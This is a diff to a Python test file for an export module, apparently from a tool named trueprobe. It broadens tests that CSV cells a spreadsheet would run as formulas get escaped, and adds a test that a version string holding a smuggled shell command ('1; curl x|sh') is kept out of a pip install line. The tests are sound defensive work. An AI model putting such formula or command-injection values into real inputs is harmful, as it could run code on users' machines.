@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import tomllib
 
@@ -16,6 +17,7 @@ from made_runs import card, claim, estimate
 from trueprobe.cli import app
 from trueprobe.errors import BadInput
 from trueprobe.results.render import export
+from trueprobe.results.render.spreadsheet import csv_text
 from trueprobe.results.view.report import Report
 from trueprobe.runs.folder import load_run
 from trueprobe.runs.study import Study
@@ -97,10 +99,14 @@ def test_csv_has_numbers_unrounded_and_no_formulas(report):
     assert list(frame["verdict"]) == ["as_published", "opposite", "low_coverage"]
 
 
-@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
+@pytest.mark.parametrize(
+    "text", ["=1", "+1", "-1", "@a", "\tx", "\rx", " =1", "\n=1", " \r\n +1", "\u00a0-1", "\u200b@a", "\0=1", "＝1"]
+)
 def test_a_cell_that_a_spreadsheet_would_run_is_escaped(text):
-    assert export._no_formula(text) == f"'{text}"
-    assert export._no_formula(f"a{text}") == f"a{text}"
+    frame = pd.DataFrame({"cell": [text, f"a{text}", " a"], "number": [-1.0, 2.0, 3.0]})
+    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))[1:]
+    text = text.replace("\r\n", "\n").replace("\r", "\n")  # a carriage return would end the row
+    assert rows == [[f"'{text}", "-1.0"], [f"a{text}", "2.0"], [" a", "3.0"]]
 
 
 def test_latex_has_findings_down_and_families_across(tmp_path):
@@ -130,3 +136,8 @@ def test_what_cannot_be_exported_is_refused(tmp_path):
             command(folder, *options)
     with pytest.raises(BadInput, match="is not finished"):
         command(made(tmp_path / "part", complete=False).folder, "--model-card")
+
+
+def test_a_version_that_is_none_is_not_written_for_a_shell():
+    assert export._reproduce_steps("0.1.dev2+g1")[0] == "pip install trueprobe==0.1.dev2+g1"
+    assert export._reproduce_steps("1; curl x|sh")[0] == "pip install trueprobe"
